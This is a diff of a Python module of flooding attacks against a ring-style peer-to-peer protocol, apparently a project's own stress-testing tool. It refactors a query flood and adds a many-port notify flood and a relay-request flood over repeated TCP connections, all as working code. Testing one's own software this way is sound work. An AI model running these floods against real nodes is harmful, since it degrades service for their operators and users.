@@ -3,19 +3,19 @@
 # SPDX-License-Identifier: GPL-2.0-only
 """Floods: queries, notifies, and requests to relay, from somebody who has no place in the ring."""
 
-import itertools
 import secrets
 import socket
 import struct
+import time
 
-from attacks.aim import Attack, add_aim, complain
+from attacks.aim import Attack, add_aim
 from frames import HOPS, NOTIFY, QUERY, REQUEST, Frame, encode, family_of, id_of
 
-ID_AT, KEY_AT = 8, 16  # where a query's number and its key are
+ID_AT, QUERY_KEY_AT, REQUEST_KEY_AT = 8, 16, 20  # where a frame's number and its key are
 
 
-def any_address(target):
-    """Where to send from: the own address by which one gets there."""
+def own_address(target):
+    """The own address by which one gets there."""
     with socket.socket(family_of(target[0]), socket.SOCK_DGRAM) as sock:
         sock.connect(target)
         return sock.getsockname()[0]
@@ -23,9 +23,16 @@ def any_address(target):
 
 def datagram_socket(target):
     sock = socket.socket(family_of(target[0]), socket.SOCK_DGRAM)
-    sock.bind((any_address(target), 0))
+    sock.bind((own_address(target), 0))
     sock.setblocking(False)
     return sock
+
+
+def renumber(frame, key_at=None):
+    """A new number, and a new key if it has one."""
+    struct.pack_into("!Q", frame, ID_AT, secrets.randbits(64))
+    if key_at:
+        frame[key_at : key_at + 20] = secrets.token_bytes(20)
 
 
 def send(attack, sock, data):
@@ -49,7 +56,7 @@ def drain(attack, sock):
 
 
 class QueryFlood(Attack):
-    """Sends queries for random keys from one socket, and reads what comes back."""
+    """queries for random keys from one socket"""
 
     @staticmethod
     def add_options(parser):
@@ -58,12 +65,79 @@ class QueryFlood(Attack):
     def run(self):
         frame = bytearray(encode(Frame(QUERY, 0, key=0)))
         with datagram_socket(self.options.target) as sock:
-            for _ in self.turns():
-                struct.pack_into("!Q", frame, ID_AT, secrets.randbits(64))
-                frame[KEY_AT : KEY_AT + 20] = secrets.token_bytes(20)
+            for number, _ in enumerate(self.turns()):
+                renumber(frame, QUERY_KEY_AT)
                 send(self, sock, frame)
-                if self.count["packets"] % 64 == 0:
+                if number % 64 == 0:
                     drain(self, sock)
             drain(self, sock)
         self.report()
         return 0
+
+
+class NotifyFlood(Attack):
+    """notifies, and queries for the target's own id, from many ports that never answer"""
+
+    @staticmethod
+    def add_options(parser):
+        add_aim(parser, "messages", 200)
+        parser.add_argument("--ports", type=int, choices=range(1, 513), default=64, metavar="NUMBER", help="1 to 512 (64)")
+
+    def run(self):
+        target = self.options.target
+        sockets = [datagram_socket(target) for _ in range(self.options.ports)]
+        frames = [bytearray(encode(frame)) for frame in (Frame(NOTIFY, 0), Frame(QUERY, 0, key=id_of(target)))]
+        for number, _ in enumerate(self.turns()):
+            frame = frames[number // len(sockets) % 2]
+            renumber(frame)
+            send(self, sockets[number % len(sockets)], frame)
+        for sock in sockets:
+            drain(self, sock)  # what it was asked, and did not answer
+            sock.close()
+        self.report()
+        return 0
+
+
+class RelayFlood(Attack):
+    """requests for random keys on one connection, which the target has to relay"""
+
+    @staticmethod
+    def add_options(parser):
+        add_aim(parser, "requests", 1000)
+        size = "length of a request's frame, in bytes: 64 to 4096 (64)"
+        parser.add_argument("--message-size", type=int, choices=range(64, 4097), default=64, metavar="BYTES", help=size)
+
+    def run(self):
+        with datagram_socket(self.options.target) as answers:
+            frame = Frame(REQUEST, 0, hops=HOPS, key=0, endpoint=answers.getsockname()[:2])
+            frame.payload = bytes(max(0, self.options.message_size - len(encode(frame))))
+            data = bytearray(encode(frame))
+            while not self.is_over():
+                try:
+                    with socket.create_connection(self.options.target, timeout=1) as sock:
+                        self.send_all(sock, data, answers)
+                except OSError:
+                    self.count["connections_lost"] += 1
+                    time.sleep(0.1)
+        self.report()
+        return 0
+
+    def send_all(self, sock, data, answers):
+        self.count["connections"] += 1
+        for number, _ in enumerate(self.turns()):
+            renumber(data, REQUEST_KEY_AT)
+            self.send_one(sock, data)
+            self.count["packets"] += 1
+            self.count["bytes"] += len(data)
+            if number % 64 == 0:
+                drain(self, answers)
+        drain(self, answers)
+
+    def send_one(self, sock, data):
+        """The peer may make us wait; but the end is the end."""
+        view = memoryview(data)
+        while view and not self.is_over():
+            try:
+                view = view[sock.send(view) :]
+            except socket.timeout:
+                self.count["seconds_held_up"] += 1
